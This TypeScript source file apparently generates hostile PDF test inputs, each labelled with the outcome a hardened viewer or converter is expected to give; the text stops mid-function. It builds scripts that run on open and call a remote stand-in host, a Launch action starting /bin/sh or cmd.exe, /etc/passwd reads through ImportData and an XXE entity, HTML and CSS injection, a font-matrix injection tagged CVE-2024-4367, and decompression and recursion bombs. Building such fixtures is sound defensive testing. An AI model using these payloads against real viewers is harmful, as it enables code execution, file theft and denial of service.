/** PDFs that want to run, fetch, start or unpack something, or whose structure has no end. */
import { deflateSync } from 'node:zlib';
import { joined, latin, noise, zeros } from './bytes.ts';
import { type HostileInput, hostile, REMOTE, SCRIPT } from './input.ts';

type Body = string | Uint8Array;

/** What every script in a PDF tries, in its own words and in a page's. */
const ACT = `app.alert('ran'); this.submitForm('${REMOTE}/ran'); app.launchURL('${REMOTE}/ran'); ${SCRIPT}`;
const text = (words: string) => `(${words.replace(/[\\()]/g, '\\$&')})`;
const script = (words = ACT) => `<< /S /JavaScript /JS ${text(words)} >>`;

/** A PDF of numbered objects with a sound table of where they are; the first is the catalogue. */
function pdf(objects: readonly Body[], trailer = ''): Buffer {
  const parts: Buffer[] = [latin('%PDF-1.7\n')];
  const places: number[] = [];
  let at = parts[0]?.length ?? 0;
  for (const [index, body] of objects.entries()) {
    places.push(at);
    const object = joined(`${index + 1} 0 obj\n`, body, '\nendobj\n');
    parts.push(object);
    at += object.length;
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  const end = `xref\n0 ${count}\n0000000000 65535 f \n${table}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`;
  return joined(...parts, end);
}
const stream = (data: Uint8Array | string, dict = '') =>
  joined(`<< /Length ${data.length} ${dict} >>\nstream\n`, data, '\nendstream');
const flate = (data: Uint8Array | string, dict = '') =>
  stream(deflateSync(typeof data === 'string' ? latin(data) : data, { level: 9 }), `/Filter /FlateDecode ${dict}`);

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  readonly resources?: string;
  readonly content?: Body;
  /** From object 5 on. */
  readonly more?: readonly Body[];
  readonly box?: string;
  readonly trailer?: string;
}
/** A document of one page: 1 catalogue, 2 page tree, 3 page, 4 what is drawn. */
function paper(parts: Parts = {}): Buffer {
  return pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox ${parts.box ?? '[0 0 200 200]'} /Contents 4 0 R /Resources << ${parts.resources ?? ''} >> ${parts.page ?? ''} >>`,
      parts.content ?? stream('0 0 1 rg 20 20 100 100 re f'),
      ...(parts.more ?? []),
    ],
    parts.trailer,
  );
}
/** A page with one thing painted on it. */
const painting = (object: Body, ...more: readonly Body[]) =>
  paper({
    resources: '/XObject << /X 5 0 R >>',
    content: stream('q 100 0 0 100 0 0 cm /X Do Q'),
    more: [object, ...more],
  });
const form = (data: string, dict = '') => stream(data, `/Type /XObject /Subtype /Form /BBox [0 0 200 200] ${dict}`);
const image = (dict: string, data: Uint8Array) => stream(data, `/Type /XObject /Subtype /Image ${dict}`);

const acting = (name: string, what: string, parts: Parts) =>
  hostile(`pdf-${name}.pdf`, `script: ${what}`, 'pdf', 'shown', () => paper(parts));

const ACTIONS: readonly HostileInput[] = [
  acting('open-script', 'run on opening', { catalog: `/OpenAction ${script()}` }),
  acting('named-script', 'run by name', {
    catalog: `/Names << /JavaScript << /Names [(a) ${script()} (b) ${script()}] >> >>`,
  }),
  acting('page-script', 'run when a page is seen', { page: `/AA << /O ${script()} /C ${script()} >>` }),
  acting('document-script', 'run on closing, printing and saving', {
    catalog: `/AA << /WC ${script()} /WP ${script()} /DS ${script()} >>`,
  }),
  acting('chain', 'a chain of actions that leads back to itself', {
    catalog: '/OpenAction 5 0 R',
    more: [`<< /S /JavaScript /JS ${text(ACT)} /Next [5 0 R 5 0 R] >>`],
  }),
  acting('launch', 'starting a program', {
    catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  }),
  acting('address', 'opening an address', { catalog: `/OpenAction << /S /URI /URI (${REMOTE}/ran) >>` }),
  acting('script-address', 'an address that is a script', {
    catalog: `/OpenAction << /S /URI /URI ${text(`javascript:${SCRIPT}`)} >>`,
    page: '/Annots [5 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI ${text(`javascript:${SCRIPT}`)} >> >>`,
    ],
  }),
  acting('elsewhere', 'going to another file', {
    catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F (${REMOTE}/x.pdf) >> /D [0 /Fit] >>`,
  }),
  acting('embedded-goto', 'going into an embedded file', {
    catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >> /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
    more: [
      '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>',
      stream('MZ\x90\0', '/Type /EmbeddedFile'),
    ],
  }),
  acting('submit', 'sending a form', {
    catalog: `/AcroForm << /Fields [5 0 R] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${REMOTE}/ran) >> /Fields [(a)] >>`,
    page: '/Annots [5 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V ${text(`<img src=x onerror="${SCRIPT}">`)} /Rect [10 10 90 30] /AA << /F ${script()} /K ${script()} >> >>`,
    ],
  }),
  acting('import', 'reading a file of the computer', { catalog: '/OpenAction << /S /ImportData /F (/etc/passwd) >>' }),
  acting('xfa', 'a form in XML with scripts and entities', {
    catalog: '/AcroForm << /XFA 5 0 R /Fields [] >> /NeedsRendering true',
    more: [
      stream(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event><draw><value><text>&e;</text></value></draw></subform></template></xdp:xdp>`,
      ),
    ],
  }),
  acting('sound-and-film', 'playing from an address', {
    page: '/Annots [5 0 R 6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Screen /Rect [0 0 90 90] /A << /S /Rendition /OP 0 /JS ${text(ACT)} /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${REMOTE}/a.mp4) >> /CT (video/mp4) >> >> >> >>`,
      `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F << /FS /URL /F (${REMOTE}/a.avi) >> >> /A true >>`,
    ],
  }),
  acting('rich-media', 'a Flash film', {
    page: '/Annots [5 0 R]',
    more: [
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 90 90] /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >> >>',
      stream('FWS\x09'),
    ],
  }),
  acting('html-everywhere', 'pages as title, labels, outlines and notes', {
    catalog: `/PageLabels << /Nums [0 << /P ${text(`<script>${SCRIPT}</script>`)} >>] >> /Outlines 5 0 R`,
    page: `/Annots [<< /Type /Annot /Subtype /FreeText /Rect [0 0 90 90] /DA (/F 9 Tf) /RC ${text(`<body><script>${SCRIPT}</script></body>`)} /Contents ${text(`<script>${SCRIPT}</script>`)} >>]`,
    more: [
      '<< /Type /Outlines /First 6 0 R /Last 6 0 R >>',
      `<< /Title ${text(`<script>${SCRIPT}</script>`)} /Parent 5 0 R /Next 6 0 R /A ${script()} >>`,
    ],
    trailer: `/Info << /Title ${text(`<script>${SCRIPT}</script>`)} /Author (A. Person) >>`,
  }),
  acting('xmp', 'entities in its metadata', {
    catalog: '/Metadata 5 0 R',
    more: [
      stream(
        `<?xpacket?><!DOCTYPE x [<!ENTITY e SYSTEM "${REMOTE}/e">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`,
        '/Type /Metadata /Subtype /XML',
      ),
    ],
  }),
  acting('outside-stream', 'drawing what lies at an address', {
    content: joined(
      `<< /Length 0 /F << /FS /URL /F (${REMOTE}/content) >> /FFilter /FlateDecode >>\nstream\n\nendstream`,
    ),
  }),
  acting('outside-page', 'a reference to a page of another file', {
    resources: '/XObject << /X 5 0 R >>',
    content: stream('/X Do'),
    more: [form('0 0 9 9 re f', `/Ref << /F << /FS /URL /F (${REMOTE}/x.pdf) >> /Page 0 >>`)],
  }),
  acting('outside-picture', 'a picture at an address (OPI)', {
    resources: '/XObject << /X 5 0 R >>',
    content: stream('/X Do'),
    more: [form('0 0 9 9 re f', `/OPI << /2.0 << /Type /OPI /Version 2.0 /F (${REMOTE}/x.tif) >> >>`)],
  }),
  acting('postscript', 'PostScript as a picture', {
    resources: '/XObject << /X 5 0 R >>',
    content: stream('/X Do'),
    more: [stream('(/etc/passwd) (r) file', '/Type /XObject /Subtype /PS')],
  }),
  acting('font-name', 'a font whose name ends a rule of CSS', {
    resources:
      '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /a;}*{background:url(http://192.0.2.1/ran)} /Encoding /WinAnsiEncoding >> >>',
    content: stream('BT /F 20 Tf 10 50 Td (words) Tj ET'),
  }),
  acting('font-matrix', 'a matrix of a font that is a script (CVE-2024-4367)', {
    resources: `/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 ${text(`0); ${SCRIPT}; (`)}] /FontDescriptor 5 0 R /FirstChar 65 /LastChar 65 /Widths [500] >> >>`,
    content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
    more: [
      '<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile 6 0 R >>',
      stream(
        `%!PS-AdobeFont-1.0: A\n/FontMatrix [1 2 3 4 5 (0);${SCRIPT};(] readonly def\n/Encoding StandardEncoding def currentfile eexec\n`,
        '/Length1 200 /Length2 0 /Length3 0',
      ),
    ],
  }),
];

const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth);
const PAGES = '/Type /Pages';

const STRUCTURE: readonly HostileInput[] = [
  hostile('pdf-only-a-head.pdf', 'structure: nothing but the first line', 'pdf', 'unreadable', () => '%PDF-1.7\n'),
  hostile('pdf-noise.pdf', 'structure: noise behind the first line', 'pdf', 'unreadable', () =>
    joined('%PDF-1.7\n', noise(50_000, 'pdf')),
  ),
  hostile('pdf-cut.pdf', 'structure: cut off in the middle', 'pdf', 'unreadable', () => paper().subarray(0, -200)),
  hostile('pdf-no-pages.pdf', 'structure: no pages', 'pdf', 'unreadable', () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< ${PAGES} /Kids [] /Count 0 >>`]),
  ),
  hostile('pdf-tree-itself.pdf', 'endless: a page tree that is its own branch', 'pdf', 'unreadable', () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< ${PAGES} /Kids [2 0 R 2 0 R] /Count 2 >>`]),
  ),
  hostile('pdf-tree-circle.pdf', 'endless: two branches that hold each other', 'pdf', 'unreadable', () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< ${PAGES} /Kids [3 0 R] /Count 9 >>`,
      `<< ${PAGES} /Kids [2 0 R] /Count 9 /Parent 2 0 R >>`,
    ]),
  ),
  hostile('pdf-tree-deep.pdf', 'stack: a page 20 000 branches deep', 'pdf', 'shown', () => {
    const depth = 20_000;
    const branches = Array.from(
      { length: depth },
      (_, at) => `<< ${PAGES} /Kids [${at + 3} 0 R] /Count 1 /Parent ${at + 1} 0 R >>`,
    );
    return pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...branches,
      `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 99 99] >>`,
    ]);
  }),
  hostile('pdf-million-pages.pdf', 'structure: a million pages claimed, one there', 'pdf', 'shown', () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< ${PAGES} /Kids [3 0 R] /Count 1000000 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
    ]),
  ),
  hostile('pdf-billion-pages.pdf', 'structure: two billion pages claimed', 'pdf', 'shown', () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< ${PAGES} /Kids [3 0 R] /Count 2147483647 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
    ]),
  ),
  hostile('pdf-minus-pages.pdf', 'structure: minus nine pages', 'pdf', 'unreadable', () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< ${PAGES} /Kids [3 0 R] /Count -9 >>`,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
    ]),
  ),
  hostile('pdf-paper-of-a-billion.pdf', 'memory: paper of 10^9 by 10^9 points', 'pdf', 'shown', () =>
    paper({ box: '[0 0 1000000000 1000000000]' }),
  ),
  hostile('pdf-paper-of-nothing.pdf', 'memory: paper without width', 'pdf', 'shown', () => paper({ box: '[0 0 0 0]' })),
  hostile('pdf-paper-strip.pdf', 'memory: paper of 10^7 by 0.001 points', 'pdf', 'too-many-pixels', () =>
    paper({ box: '[0 0 10000000 0.001]' }),
  ),
  hostile('pdf-paper-of-words.pdf', 'structure: paper whose size is no number', 'pdf', 'shown', () =>
    paper({ box: '[(a) /b null [0]]' }),
  ),
  hostile('pdf-unit.pdf', 'memory: a point that is 10^6 points', 'pdf', 'shown', () =>
    paper({ page: '/UserUnit 1000000' }),
  ),
  hostile('pdf-table-circle.pdf', 'endless: a table of places that follows itself', 'pdf', 'unreadable', () =>
    latin(
      paper()
        .toString('latin1')
        .replace('/Root', '/Prev 9 /Root')
        .replace('%PDF-1.7\n', '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Prev 9 >>\n'),
    ),
  ),
  hostile('pdf-table-wrong.pdf', 'structure: places that are all wrong', 'pdf', 'shown', () =>
    latin(
      paper()
        .toString('latin1')
        .replace(/\d{10} 00000 n/g, '9999999999 00000 n'),
    ),
  ),
  hostile('pdf-table-huge.pdf', 'memory: a table of 2^31 places', 'pdf', 'shown', () =>
    latin(
      paper()
        .toString('latin1')
        .replace(/xref\n0 \d+/, 'xref\n0 2147483647'),
    ),
  ),
  hostile('pdf-length-itself.pdf', 'endless: a length that is the stream itself', 'pdf', 'shown', () =>
    paper({ content: joined('<< /Length 4 0 R >>\nstream\n0 0 9 9 re f\nendstream') }),
  ),
  hostile('pdf-reference-circle.pdf', 'endless: two references that are each other', 'pdf', 'unreadable', () =>
    pdf(['2 0 R', '1 0 R']),
  ),
  hostile('pdf-arrays.pdf', 'stack: 200 000 arrays inside each other', 'pdf', 'shown', () =>
    paper({ page: '/Annots 5 0 R', more: [nested(200_000, '[', ']')] }),
  ),
  hostile('pdf-dictionaries.pdf', 'stack: 50 000 dictionaries inside each other', 'pdf', 'shown', () =>
    paper({ page: '/AA 5 0 R', more: [nested(50_000, '<</A ', '>>')] }),
  ),
  hostile('pdf-strings.pdf', 'stack: a million brackets in a text', 'pdf', 'shown', () =>
    paper({ catalog: `/Lang ${nested(500_000, '(', ')')}` }),
  ),
  hostile('pdf-many-notes.pdf', 'time: 20 000 notes on a page', 'pdf', 'shown', () =>
    paper({ page: `/Annots [${'<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >> '.repeat(20_000)}]` }),
  ),
  hostile('pdf-outline-circle.pdf', 'endless: contents that follow themselves', 'pdf', 'shown', () =>
    paper({ catalog: '/Outlines 5 0 R', more: ['<< /First 5 0 R /Next 5 0 R /Parent 5 0 R /Title (x) >>'] }),
  ),
  hostile('pdf-and-page.pdf', 'script: a document and a page at once', 'pdf', 'shown', () =>
    joined(paper(), `<html><script>${SCRIPT}</script></html>`),
  ),
  hostile('pdf-locked.pdf', 'structure: wants a password', 'pdf', 'password', () =>
    paper({
      more: [`<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`],
      trailer: `/Encrypt 5 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
    }),
  ),
  hostile('pdf-locked-strangely.pdf', 'structure: locked in a way that there is not', 'pdf', 'unreadable', () =>
    paper({ more: ['<< /Filter /Own /V 99 >>'], trailer: '/Encrypt 5 0 R' }),
  ),
];

/** Blanks, as many as are more than any page needs. */
const BLANKS = 300_000_000;
let packed: Buffer | undefined;
/** Blanks, deflated: a thousandth. Made once, since that takes a second. */
const blanks = () => {
  packed ??= deflateSync(Buffer.alloc(BLANKS, 0x20));
  return packed;
};
/** The same in a few kilobytes. */
const blanksTwice = () => deflateSync(blanks(), { level: 9 });
const objectStream = (size: number) => flate(joined('7 0 ', Buffer.alloc(size, 0x20)), '/Type /ObjStm /N 1 /First 5');
const charProcs = (draw: string) => ({
  resources: '/Font << /F 5 0 R >>',
  content: stream('BT /F 20 Tf 10 50 Td (aaaa) Tj ET'),
  more: [
    '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
    stream(draw),
  ],
});

const BOMBS: readonly HostileInput[] = [
  hostile('pdf-content-bomb.pdf', 'flate bomb: 300 MB of blanks to draw', 'pdf', 'too-many-pixels', () =>
    paper({ content: stream(blanks(), '/Filter /FlateDecode') }),
  ),
  hostile('pdf-content-bomb-twice.pdf', 'flate bomb: 300 MB, deflated twice', 'pdf', 'too-many-pixels', () =>
    paper({ content: stream(blanksTwice(), '/Filter [/FlateDecode /FlateDecode]') }),
  ),
  hostile('pdf-picture-bomb.pdf', 'flate bomb: 300 MB of pixels for a small picture', 'pdf', 'too-many-pixels', () =>
    painting(
      image(
        '/Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]',
        blanksTwice(),
      ),
    ),
  ),
  hostile('pdf-object-bomb.pdf', 'flate bomb: objects in 100 MB', 'pdf', 'shown', () =>
    paper({ more: [objectStream(100_000_000)] }),
  ),
  hostile('pdf-filters.pdf', 'time: five hundred filters one after the other', 'pdf', 'shown', () =>
    paper({ content: stream('0 0 9 9 re f>', `/Filter [${'/ASCIIHexDecode '.repeat(500)}]`) }),
  ),
  hostile('pdf-run-bomb.pdf', 'memory: runs of 128 from 2 bytes, 300 MB', 'pdf', 'too-many-pixels', () =>
    paper({
      content: flate(Buffer.alloc(4_700_000, Buffer.of(129, 0x20)), '/Filter [/FlateDecode /RunLengthDecode]').subarray(
        0,
      ),
    }),
  ),
  hostile('pdf-lzw-noise.pdf', 'decoder: noise as LZW', 'pdf', 'shown', () =>
    paper({ content: stream(noise(200_000, 'lzw'), '/Filter /LZWDecode') }),
  ),
  hostile('pdf-picture-65535.pdf', 'memory: a picture of 65535 by 65535', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
        deflateSync(zeros(100_000)),
      ),
    ),
  ),
  hostile('pdf-mask-30000.pdf', 'memory: a mask of 30000 by 30000', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 30000 /Height 30000 /BitsPerComponent 1 /ImageMask true /Filter /FlateDecode',
        deflateSync(zeros(112_500_000), { level: 9 }),
      ),
    ),
  ),
  hostile('pdf-inline-picture.pdf', 'memory: a picture inside what is drawn, 20000 by 20000', 'pdf', 'shown', () =>
    paper({ content: stream('BI /W 20000 /H 20000 /BPC 8 /CS /RGB ID \0\0\0 EI') }),
  ),
  hostile('pdf-jpeg-2000.pdf', 'decoder: damaged JPEG 2000', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 99 /Height 99 /Filter /JPXDecode',
        joined([0xff, 0x4f, 0xff, 0x51, 0, 47, 0, 0], [0, 0, 255, 255, 0, 0, 255, 255], noise(500, 'jpx')),
      ),
    ),
  ),
  hostile('pdf-jbig2.pdf', 'decoder: damaged JBIG2', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 99 /Height 99 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
        joined([0, 0, 0, 0, 48, 0, 1, 0, 0, 0, 19, 255, 255, 255, 255, 255, 255, 255, 255], noise(500, 'jbig2')),
      ),
    ),
  ),
  hostile('pdf-fax.pdf', 'decoder: noise as fax, 10^6 columns', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 99 /Height 99 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 1000000 /Rows 1000000 >>',
        noise(5000, 'fax'),
      ),
    ),
  ),
  hostile('pdf-jpeg.pdf', 'decoder: a JPEG that claims 65500 by 65500', 'pdf', 'shown', () =>
    painting(
      image(
        '/Width 99 /Height 99 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode',
        joined(
          [0xff, 0xd8, 0xff, 0xc0, 0, 17, 8, 0xff, 0xdc, 0xff, 0xdc, 3, 1, 0x44, 0, 2, 0x44, 1, 3, 0x44, 1],
          noise(500, 'dct'),
        ),
      ),
    ),
  ),
  hostile('pdf-soft-mask-circle.pdf', 'endless: a mask that masks itself', 'pdf', 'shown', () =>
    painting(image('/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 5 0 R', zeros(81))),
  ),
  hostile('pdf-form-itself.pdf', 'endless: a drawing that draws itself', 'pdf', 'shown', () =>
    painting(form('/X Do /X Do', '/Resources << /XObject << /X 5 0 R >> >>')),
  ),
  hostile('pdf-form-bomb.pdf', 'time: drawings of ten drawings, ten deep', 'pdf', 'hangs', () => {
    const levels = Array.from({ length: 10 }, (_, at) =>
      form('/Y Do '.repeat(10), `/Resources << /XObject << /Y ${at + 6} 0 R >> >>`),
    );
    return painting(levels[0] ?? '', ...levels.slice(1), form('0 0 9 9 re f'));
  }),
  hostile('pdf-letter-itself.pdf', 'endless: a letter that is written with itself', 'pdf', 'shown', () =>
    paper(charProcs('1 0 d0 BT /F 1 Tf (aaaaaaaaaa) Tj ET')),
  ),
  hostile('pdf-pattern-itself.pdf', 'endless: a pattern that is filled with itself', 'pdf', 'shown', () =>
    paper({
      resources: '/Pattern << /P 5 0 R >>',
      content: stream('/Pattern cs /P scn 0 0 200 200 re f'),
      more: [
        stream(
          '/Pattern cs /P scn 0 0 9 9 re f',
          '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 /Resources << /Pattern << /P 5 0 R >> >>',
        ),
      ],
    }),
  ),
  hostile('pdf-pattern-steps.pdf', 'time: a pattern with steps of a millionth', 'pdf', 'shown', () =>
    paper({
      resources: '/Pattern << /P 5 0 R >>',
      content: stream('/Pattern cs /P scn 0 0 200 200 re f'),
      more: [
        stream(
          '0 0 1 1 re f',
          '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001 /Resources << >>',
        ),
      ],
    }),
  ),
  hostile('pdf-function.pdf', 'time: a shading by a program of 1000 steps', 'pdf', 'shown', () =>
    paper({
      resources:
        '/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] /Matrix [200 0 0 200 0 0] /Function 5 0 R >> >>',
      content: stream('/S sh'),
      more: [stream(`{ ${'dup mul '.repeat(500)} pop }`, '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]')],
    }),
  ),
  hostile('pdf-functions-circle.pdf', 'endless: a function made of itself', 'pdf', 'shown', () =>
    paper({
      resources: '/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 5 0 R >> >>',
      content: stream('/S sh'),
      more: ['<< /FunctionType 3 /Domain [0 1] /Functions [5 0 R 5 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>'],
    }),
  ),
  hostile('pdf-sampled.pdf', 'memory: a function of 2^24 samples', 'pdf', 'shown', () =>
    paper({
      resources: '/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 9 9] /Function 5 0 R >> >>',
      content: stream('/S sh'),
      more: [stream('\0', '/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [16777216] /BitsPerSample 32')],
    }),
  ),
  hostile('pdf-mesh.pdf', 'memory: a mesh of noise', 'pdf', 'shown', () =>
    paper({
      resources: '/Shading << /S 5 0 R >>',
      content: stream('/S sh'),
      more: [
        stream(
          noise(120_000, 'mesh'),
          '/ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 16 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 200 0 200 0 1 0 1 0 1]',
        ),
      ],
    }),
  ),
  hostile('pdf-colours-circle.pdf', 'endless: a palette of itself', 'pdf', 'shown', () =>
    paper({
      resources: '/ColorSpace << /C 5 0 R >>',
      content: stream('/C cs 1 sc 0 0 99 99 re f'),
      more: ['[/Indexed 5 0 R 255 <00>]'],
    }),
  ),
  hostile('pdf-states.pdf', 'stack: 2000 saved states', 'pdf', 'shown', () =>
    paper({ content: flate('q '.repeat(2_000)) }),
  ),
  hostile('pdf-path.pdf', 'time: a path of 20 000 curves', 'pdf', 'shown', () =>
    paper({ content: flate(`0 0 m ${'9 9 1 1 5 5 c '.repeat(20_000)} S`) }),
  ),
  hostile('pdf-dashes.pdf', 'time: dashes of a billionth', 'pdf', 'shown', () =>
    paper({ content: stream('[0.000000001] 0 d 0 0 m 200 200 l S') }),
  ),
  hostile('pdf-letters.pdf', 'time: a million letters', 'pdf', 'shown', () =>
    paper({
      resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
      content: flate(`BT /F 1 Tf (${'x'.repeat(300_000)}) Tj ET`),
    }),
  ),
  hostile('pdf-font-noise.pdf', 'decoder: noise as a font', 'pdf', 'shown', () =>
    paper({
      resources:
        '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /N /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >> >>',
      content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
      more: [
        '<< /Type /FontDescriptor /FontName /N /Flags 4 /FontFile2 6 0 R >>',
        stream(joined([0, 1, 0, 0, 0, 9], noise(4000, 'font'))),
      ],
    }),
  ),
  hostile('pdf-font-cff.pdf', 'decoder: noise as a compact font', 'pdf', 'shown', () =>
    paper({
      resources:
        '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /N /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >> >>',
      content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
      more: [
        '<< /Type /FontDescriptor /FontName /N /Flags 4 /FontFile3 6 0 R >>',
        stream(joined([1, 0, 4, 4, 255, 255, 4], noise(4000, 'cff')), '/Subtype /Type1C'),
      ],
    }),
  ),
  hostile('pdf-font-circle.pdf', 'endless: a letter of Type 1 that calls itself', 'pdf', 'shown', () =>
    paper({
      resources:
        '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /N /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >> >>',
      content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
      more: [
        '<< /Type /FontDescriptor /FontName /N /Flags 4 /FontFile 6 0 R >>',
        stream(type1Circle(), '/Length1 60 /Length2 400 /Length3 0'),
      ],
    }),
  ),
  hostile('pdf-font-descendants.pdf', 'endless: a font that descends from itself', 'pdf', 'shown', () =>
    paper({
      resources: '/Font << /F 5 0 R >>',
      content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
      more: ['<< /Type /Font /Subtype /Type0 /BaseFont /N /Encoding /Identity-H /DescendantFonts [5 0 R] >>'],
    }),
  ),
  hostile('pdf-map-circle.pdf', 'endless: a character map that uses itself', 'pdf', 'shown', () =>
    paper({
      resources:
        '/Font << /F << /Type /Font /Subtype /Type0 /BaseFont /N /Encoding 5 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /N /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 0 >> >>] >> >>',
      content: stream('BT /F 20 Tf 10 50 Td (AB) Tj ET'),
      more: [
        stream(
          '/CMapName /M def 1 begincodespacerange <00> <ff> endcodespacerange',
          '/Type /CMap /CMapName /M /UseCMap 5 0 R',
        ),
      ],
    }),
  ),
  hostile('pdf-map-bomb.pdf', 'memory: a character map of 2^32 characters', 'pdf', 'shown', () =>
    paper({
      resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 5 0 R >> >>',
      content: stream('BT /F 20 Tf 10 50 Td (A) Tj ET'),
      more: [
        stream(
          `/CMapName /M def 1 begincodespacerange <00000000> <ffffffff> endcodespacerange ${'1 beginbfrange <00000000> <ffffffff> <0041> endbfrange '.repeat(50)}`,
        ),
      ],
    }),
  ),
  hostile('pdf-layers-circle.pdf', 'endless: a layer that is shown where it is shown', 'pdf', 'shown', () =>
    paper({
      catalog: '/OCProperties << /OCGs [5 0 R] /D << /Order [5 0 R [5 0 R]] >> >>',
      resources: '/Properties << /L 6 0 R >>',
      content: stream('/OC /L BDC 0 0 99 99 re f EMC'),
      more: ['<< /Type /OCG /Name (a) >>', '<< /Type /OCMD /VE 7 0 R >>', '[/And 7 0 R 7 0 R]'],
    }),
  ),
];

/** A Type 1 font, its private half encrypted as the format wants, whose subroutine 0 calls subroutine 0. */
function type1Circle(): Buffer {
  const encrypt = (plain: Uint8Array, start: number) => {
    let key = start;
    return Buffer.from(plain).map((byte) => {
      const cipher = byte ^ (key >> 8);
      key = ((cipher + key) * 52_845 + 22_719) & 0xffff;
      return cipher;
    });
  };
  // 0 callsubr, after four bytes that nobody reads.
  const call = encrypt(joined(zeros(4), [139, 10]), 4330);
  const half = joined(
    '0000dup /Private 8 dict dup begin /lenIV 4 def /Subrs 1 array dup 0 6 RD ',
    call,
    ' NP ND 2 index /CharStrings 1 dict dup begin /A 6 RD ',
    call,
